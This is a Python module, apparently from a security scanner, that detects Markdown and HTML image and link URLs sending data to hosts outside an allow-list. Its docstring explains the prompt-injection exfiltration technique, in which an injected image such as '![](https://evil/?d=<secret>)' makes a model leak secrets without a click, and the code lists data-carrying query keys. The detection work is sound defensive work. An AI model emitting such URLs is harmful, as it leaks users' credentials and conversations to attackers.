"""Markdown and HTML shapes that make a client send data to an attacker's server.

A rendered image loads by itself (zero-click), so an injected ``![](https://evil/?d=<secret>)``
leaks whatever the model put in the URL. Links leak when clicked. The URL is parsed, never
substring-matched: the host is compared with ``allowed_domains`` label by label, and "carries
data" means a placeholder, a data-like query key, or a long opaque value in the query or path.
"""

from __future__ import annotations

from collections.abc import Iterable
from urllib.parse import parse_qsl, urlsplit

import re2

from .finding import Finding, quote

_URLS = re2.compile(
    r"(?P<img>!)?\[[^\]\n]{0,300}\]\(\s*<?(?P<md>[^)\s>]+)"
    r"|(?m:^[ \t]{0,3}\[[^\]\n]{1,200}\]:[ \t]*<?(?P<ref>\S+?)>?(?:\s|$))"
    r"|<(?P<tag>img|a|iframe|script|link|source|video|audio)\b[^>]{0,1000}?\b(?:src|href|srcset|poster)"
    r"\s*=\s*[\"']?(?P<html>[^\"'\s>]+)",
    re2.Options(),
)
_DATA_KEYS = frozenset(
    {"d", "data", "q", "p", "c", "secret", "secrets", "token", "key", "keys", "content", "msg", "message", "text",
     "conversation", "history", "prompt", "info", "payload", "exfil", "leak", "chat", "pw", "password", "env",
     "creds", "credentials", "session", "cookie", "memory", "context", "summary", "user", "email"}
)
_PLACEHOLDER_CHARS = frozenset("{}$[]<>")
_MAX_FINDINGS = 10


def _is_allowed(host: str, allowed: tuple[str, ...]) -> bool:
    return any(host == d or host.endswith("." + d) for d in allowed)


def _is_opaque(value: str, minimum: int) -> bool:
    # Long and mixed: base64, hex, percent-encoded text; not a word or a short setting like "flat".
    if len(value) < minimum:
        return False
    return any(c.isdigit() for c in value) or "%" in value or "+" in value or "=" in value or len(value) >= 48


def _carries_data(url: str, is_image: bool) -> bool:
    try:
        parts = urlsplit(url)
        query = parse_qsl(parts.query, keep_blank_values=True)
    except ValueError:
        return True  # unparsable: cannot prove it carries nothing
    if any(c in _PLACEHOLDER_CHARS for c in url) or "%7b" in url or "%24" in url:
        return True
    for key, value in query:
        if key in _DATA_KEYS and (value or is_image):
            return True
        if _is_opaque(value, 16 if is_image else 24):
            return True
    if parts.query and not query:
        return _is_opaque(parts.query, 16)  # "?<base64>" without key=value
    return any(_is_opaque(segment, 32) for segment in parts.path.split("/"))


def exfiltration_findings(normalised: str, allowed_domains: Iterable[str] = ()) -> list[Finding]:
    """Images and links whose URL carries data to a host outside ``allowed_domains``."""
    if "](" not in normalised and "]:" not in normalised and "<" not in normalised:
        return []
    allowed = tuple(d.strip().lower().strip(".") for d in allowed_domains if d.strip())
    findings: list[Finding] = []
    for match in _URLS.finditer(normalised):
        url = match.group("md") or match.group("ref") or match.group("html") or ""
        is_image = bool(match.group("img")) or match.group("tag") in {"img", "iframe", "script", "source",
                                                                        "video", "audio", "link"}
        try:
            parts = urlsplit(url)
            host = (parts.hostname or "").lower()
        except ValueError:
            host, parts = "", None
        if parts is not None and parts.scheme not in {"http", "https", ""}:
            continue
        if not host or _is_allowed(host, allowed) or not _carries_data(url, is_image):
            continue
        shape = "image" if is_image else "link"
        findings.append(Finding("exfiltration_link", quote(f"{shape} to {host}: {url}")))
        if len(findings) >= _MAX_FINDINGS:
            break
    return findings
